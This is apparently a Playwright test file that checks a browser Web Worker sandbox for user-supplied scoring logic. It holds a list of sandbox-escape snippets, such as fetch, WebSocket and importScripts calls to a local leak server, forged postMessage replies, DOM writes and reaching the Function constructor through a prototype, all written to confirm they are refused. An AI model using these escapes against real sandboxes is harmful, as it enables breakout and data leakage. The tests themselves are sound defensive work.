import { readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { expect, test as base, type Page } from '@playwright/test';

// The custom scoring logic runs in the browser in a Web Worker. Here the shipped runner
// chunk (dist/assets/web-worker-runner-*.js, with its worker) runs hostile logic in Chromium on the
// app's origin. Every attempt must be refused (a runtime failure, nothing returned) or contained.

const ASSETS = path.join(import.meta.dirname, '../../dist/assets');

function runnerChunk(): string {
  const file = readdirSync(ASSETS).find((name) => /^web-worker-runner-[\w-]+\.js$/.test(name));
  if (!file) throw new Error('no web-worker-runner chunk in dist/assets: run `npm run build` first');
  return `/assets/${file}`;
}

type Outcome = { ok: true; value: unknown } | { ok: false; kind: string; message?: string; timeoutMs?: number };

/** Runs `logic` through the shipped runner, in the page, with the given time limit. */
function runInBrowser(page: Page, logic: string, timeoutMs = 10_000): Promise<Outcome> {
  return page.evaluate(
    async ({ chunk, logic, timeoutMs }) => {
      type Runner = {
        createWebWorkerRunner: (options: { timeoutMs: number }) => {
          run: (logic: string, input: unknown) => Promise<unknown>;
        };
      };
      // The chunk may hold other small modules too (the build merges chunks without side effects): the
      // runner's exports are then one of its exported namespaces.
      const chunkExports = (await import(chunk)) as Record<string, unknown>;
      const isRunner = (value: unknown): value is Runner =>
        typeof (value as Partial<Runner> | null)?.createWebWorkerRunner === 'function';
      const runner = [chunkExports, ...Object.values(chunkExports)].find(isRunner);
      if (!runner) throw new Error(`${chunk} exports no createWebWorkerRunner`);
      const { createWebWorkerRunner } = runner;
      const input = {
        answers: { Q1: '4' },
        questions: [{ item_code: 'Q1', response_type: 'likert_5', options: [], metadata: {} }],
      };
      return (await createWebWorkerRunner({ timeoutMs }).run(logic, input)) as Outcome;
    },
    { chunk: runnerChunk(), logic, timeoutMs },
  );
}

/**
 * One page on the app's origin serves every test (opened once, not once a test): each run of the logic
 * starts a Web Worker of its own, and what an attack could do to the page itself is asserted after it.
 */
const test = base.extend<object, { appPage: Page }>({
  appPage: [
    async ({ browser }, use, workerInfo) => {
      const { baseURL, locale } = workerInfo.project.use;
      const context = await browser.newContext({ baseURL, locale });
      const page = await context.newPage();
      await page.goto('/');
      await use(page);
      await context.close();
    },
    { scope: 'worker' },
  ],
});

/** A server that only counts what reaches it: any request or upgrade is a leak. */
let leaks: string[] = [];
let leakServer: Server;
let LEAK = '';

test.beforeAll(async () => {
  leakServer = createServer((request, response) => {
    leaks.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    response.end('');
  });
  leakServer.on('upgrade', (request, socket) => {
    leaks.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => leakServer.listen(0, '127.0.0.1', resolve));
  LEAK = `127.0.0.1:${(leakServer.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => leakServer.close(resolve));
});

test.beforeEach(() => {
  leaks = [];
});

test('the runner runs ordinary logic and returns its result', async ({ appPage: page }) => {
  const outcome = await runInBrowser(page, 'return { score: Number(answers.Q1) * 20, n: questions.length };');
  expect(outcome).toEqual({ ok: true, value: { score: 80, n: 1 } });
});

const attacks: Array<[string, (leak: string) => string]> = [
  ['fetch', (leak) => `fetch('http://${leak}/fetch');`],
  ['XMLHttpRequest', (leak) => `const x = new XMLHttpRequest(); x.open('GET', 'http://${leak}/xhr', false); x.send();`],
  ['WebSocket', (leak) => `new WebSocket('ws://${leak}/ws');`],
  ['importScripts', (leak) => `importScripts('http://${leak}/import-scripts.js');`],
  ['dynamic import()', (leak) => `import('http://${leak}/dynamic-import.js');`],
  ['EventSource', (leak) => `new EventSource('http://${leak}/event-source');`],
  ['WebTransport', (leak) => `new WebTransport('https://${leak}/web-transport');`],
  ['WebSocketStream', (leak) => `new WebSocketStream('ws://${leak}/ws-stream');`],
  ['FontFace', (leak) => `new FontFace('x', 'url(http://${leak}/font.woff2)').load();`],
  ['navigator.sendBeacon', (leak) => `navigator.sendBeacon('http://${leak}/beacon');`],
  ['indexedDB', () => `indexedDB.open('custom-logic-leak');`],
  ['caches', () => `caches.open('custom-logic-leak');`],
  ['localStorage', () => `localStorage.setItem('custom-logic-leak', '1');`],
  ['navigator.storage (origin private file system)', () => `navigator.storage.getDirectory();`],
  ['postMessage to the page', () => `postMessage({ ok: true, json: '{"score":100,"forged":true}' });`],
  ['self.postMessage to the page', () => `self.postMessage({ ok: true, json: '{"score":100,"forged":true}' });`],
  ['BroadcastChannel to the page', () => `new BroadcastChannel('taas').postMessage('forged');`],
  ['self.close', () => `self.close();`],
  ['close', () => `close();`],
  ['the DOM', () => `document.title = 'owned';`],
  ['the parent window', () => `parent.postMessage('forged', '*');`],
  ['a nested Worker', () => `new Worker('data:text/javascript,1');`],
  ['setTimeout with a string', () => `setTimeout('1', 0);`],
  ['the global object through globalThis', () => `globalThis.fetch('x');`],
  ['the global object through sloppy this', () => `(function () { return this; })().fetch('x');`],
  ['the Function constructor through a prototype', () => `[].map.constructor('return fetch')()('x');`],
  ['the async Function constructor', () => `Object.getPrototypeOf(async function () {}).constructor('return 1')();`],
  ['eval', () => `eval('1');`],
  ['WebAssembly', () => `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`],
  ['addEventListener on the worker scope', () => `addEventListener('message', () => {});`],
];

for (const [name, attack] of attacks) {
  test(`custom logic that tries ${name} is refused`, async ({ appPage: page }) => {
    const outcome = await runInBrowser(page, `${attack(LEAK)}\nreturn { score: 100, escaped: true };`);
    expect(outcome).toMatchObject({ ok: false, kind: 'runtime' });
    expect(leaks).toEqual([]);
    expect(await page.title()).not.toBe('owned');
  });
}

test('the logic sees none of the worker scope: only the language built-ins', async ({ appPage: page }) => {
  const outcome = await runInBrowser(
    page,
    `const types = [typeof self, typeof fetch, typeof navigator, typeof location, typeof caches,
       typeof indexedDB, typeof postMessage, typeof close, typeof importScripts, typeof WebSocket, typeof XMLHttpRequest,
       typeof Worker, typeof setTimeout, typeof queueMicrotask, typeof crypto, typeof performance, typeof fonts,
       typeof reportError, typeof structuredClone, typeof console, typeof Function, typeof addEventListener];
     return { score: 1, visible: types.filter((type) => type !== 'undefined').length,
       math: Math.max(1, 2), json: JSON.stringify([1]), date: typeof Date, map: new Map([[1, 2]]).size };`,
  );
  expect(outcome).toEqual({
    ok: true,
    value: { score: 1, visible: 0, math: 2, json: '[1]', date: 'function', map: 1 },
  });
});

test('a forged reply posted by the logic never replaces the real result', async ({ appPage: page }) => {
  const outcome = await runInBrowser(
    page,
    `try { postMessage({ ok: true, json: '{"score":100}' }); } catch {}
     try { self.postMessage({ ok: true, json: '{"score":100}' }); } catch {}
     return { score: 7 };`,
  );
  expect(outcome).toEqual({ ok: true, value: { score: 7 } });
});

test('an endless loop is stopped by the time limit', async ({ appPage: page }) => {
  const outcome = await runInBrowser(page, 'while (true) {}', 500);
  expect(outcome).toEqual({ ok: false, kind: 'timeout', timeoutMs: 500 });
  // The page was never blocked, and the next run works.
  expect(await runInBrowser(page, 'return { score: 3 };')).toEqual({ ok: true, value: { score: 3 } });
});
